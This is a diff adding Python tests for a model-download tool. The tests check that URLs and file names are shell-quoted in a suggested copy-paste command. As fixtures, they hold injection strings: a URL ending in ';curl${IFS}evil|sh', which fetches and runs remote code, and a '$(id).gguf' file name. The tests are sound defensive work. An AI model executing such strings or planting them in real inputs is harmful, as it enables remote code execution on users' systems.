@@ -16,6 +16,7 @@ from wizard_edge.errors import HubError
 from wizard_edge.names import CommitId, RelPath, RepoId
 from wizard_edge.receipts import Check, CheckedFile, Origin, Piece, Receipt
 from wizard_edge.service.installation import Installation
+from wizard_edge.service.pieces import way_to_make_anew
 from wizard_edge.service.updates import (
     Newer,
     Outlook,
@@ -262,6 +263,35 @@ def test_an_address_that_serves_the_same_is_up_to_date(shop: Shop) -> None:
     shop.add(url=f"{shop.hub.cdn}/{content.sha256}", etag=etag)
 
     assert shop.update() == Update("small", "Q8_0", (), None, checked=True)
+
+
+def test_an_address_is_quoted_in_a_command_to_copy(shop: Shop) -> None:
+    """Whoever wrote the receipt may hope for a shell."""
+    url = f"{shop.hub.cdn}/{sha256_of(CONTENT)};curl${{IFS}}evil|sh"
+    receipt = shop.add(url=url, etag='"other"')
+
+    command = f"wizard-edge rm small:Q8_0 && wizard-edge pull '{url}'"
+    assert way_to_make_anew(shop.installation, receipt) == command
+
+
+def test_a_file_that_is_another_is_quoted_in_a_command_to_copy(shop: Shop) -> None:
+    push(shop, **{"$(id)_gguf": b"another"})
+    shop.add(path="$(id).gguf")
+
+    [found] = shop.update().newer
+
+    assert found.command == (
+        f"wizard-edge rm small:Q8_0 && wizard-edge pull 'hf:{REPO}/$(id).gguf'"
+    )
+
+
+def test_an_address_of_something_else_is_quoted_too(shop: Shop) -> None:
+    url = f"{shop.hub.cdn}/{sha256_of(CONTENT)}?a=1&b=2"
+    shop.add(url=url, etag='"other"')
+
+    [found] = shop.update().newer
+
+    assert found.command == (f"wizard-edge rm small:Q8_0 && wizard-edge pull '{url}'")
 
 
 def converted(shop: Shop, tool: str, sha256: str) -> None:
